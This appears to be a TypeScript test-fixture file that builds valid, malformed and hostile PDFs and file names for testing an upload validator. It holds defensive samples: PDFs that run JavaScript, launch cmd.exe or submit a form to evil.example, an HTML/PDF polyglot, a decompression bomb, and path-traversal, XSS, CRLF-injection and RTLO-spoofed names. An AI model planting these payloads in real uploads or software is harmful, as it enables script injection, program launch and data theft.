import { deflateSync } from "node:zlib";

/** A PDF of these objects, numbered from 1. Readers find the objects without a table. */
function pdf(
  objects: readonly (string | Buffer)[],
  { end = "%%EOF\n", trailer = "<</Root 1 0 R>>" } = {},
): Buffer {
  const parts = objects.flatMap((body, index) => [
    Buffer.from(`${index + 1} 0 obj\n`),
    Buffer.from(body),
    Buffer.from("\nendobj\n"),
  ]);
  return Buffer.concat([Buffer.from("%PDF-1.7\n"), ...parts, Buffer.from(`trailer${trailer}\n${end}`)]);
}

const page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>";
const catalog = (more = "") => `<</Type/Catalog/Pages 2 0 R${more}>>`;
const pages = (kids: string, count = 1) => `<</Type/Pages/Kids[${kids}]/Count ${count}>>`;
const onePage = [pages("3 0 R"), page];

/** A small valid file with this many pages. */
export const blankPdf = (count = 1): Buffer =>
  pdf([
    catalog(),
    pages(Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(" "), count),
    ...Array.from({ length: count }, () => page),
  ]);

const objectStream = (dictionary: string, data: Buffer) =>
  Buffer.concat([
    Buffer.from(`<</Type/ObjStm${dictionary}/Length ${data.length}>>stream\n`),
    data,
    Buffer.from("\nendstream"),
  ]);
const packed = Buffer.from(`2 0 3 40 ${pages("3 0 R").padEnd(40)}${page}`);

/** A file as most programs write it today: its pages are in a compressed stream. */
export const packedPdf = pdf([
  catalog(),
  "<<>>",
  "<<>>",
  objectStream("/N 2/First 9/Filter/FlateDecode", deflateSync(packed)),
]);

/** Which a shop must not keep as a data sheet. */
export const notPdfs: Record<string, Buffer> = {
  "an empty file": Buffer.alloc(0),
  "a web page": Buffer.from("<!doctype html><script>alert(1)</script>%PDF-1.7\n%%EOF"),
  "an SVG with a script": Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  ),
  "a program": Buffer.from("MZ\u0090\0\u0003\0\0\0%PDF-1.7\n%%EOF", "latin1"),
  "an archive": Buffer.from("PK\u0003\u0004 and the rest of it", "latin1"),
  "the first bytes of a PDF and no more": Buffer.from("%PDF-1.7\n"),
  "a PDF that is cut off": blankPdf().subarray(0, -7),
  "a PDF without pages": pdf([catalog(), pages("", 12)]),
  "a PDF without a catalog": pdf([page], { trailer: "<</Root 9 0 R>>" }),
  "a PDF whose pages go round in a circle": pdf([catalog(), pages("2 0 R 3 0 R", 2), page]),
  "a PDF with a page that is not there": pdf([catalog(), pages("7 0 R"), page]),
  "a PDF with more pages than anybody reads": blankPdf(1_002),
  "a PDF with a password": pdf([catalog(), ...onePage], { trailer: "<</Root 1 0 R/Encrypt 9 0 R>>" }),
  "a PDF with a stream that never ends": pdf([catalog(), ...onePage, "<</Length 9>>stream\nabc"]),
  "a PDF that unpacks to 64 MB": pdf([
    catalog(),
    objectStream("/N 2/First 9/Filter/FlateDecode", deflateSync(Buffer.alloc(64_000_000), { level: 9 })),
  ]),
  "a PDF made of digits": Buffer.concat([
    Buffer.from("%PDF-1.7\n"),
    Buffer.alloc(4_000_000, "1 "),
    Buffer.from("%%EOF"),
  ]),
};

/** Which are PDFs, and would do something if a browser let them. */
export const livelyPdfs: Record<string, Buffer> = {
  "a script that runs when it is opened": pdf([
    catalog("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    ...onePage,
  ]),
  "a program that it starts": pdf([catalog("/OpenAction<</S/Launch/F(cmd.exe)>>"), ...onePage]),
  "a form that it sends away": pdf([
    catalog("/OpenAction<</S/SubmitForm/F(https://evil.example/)>>"),
    ...onePage,
  ]),
  "a web page behind its head": Buffer.concat([
    Buffer.from("%PDF-1.7\n<html><script>alert(document.domain)</script></html>\n"),
    blankPdf(),
  ]),
};

/** What somebody may call a revision. */
export const hostileNames = [
  "../../etc/passwd",
  '"><script>alert(1)',
  "a\r\nSet-Cookie: x=1",
  "%2e%2e%2f%00.html",
  "\u202Efdp.exe",
];
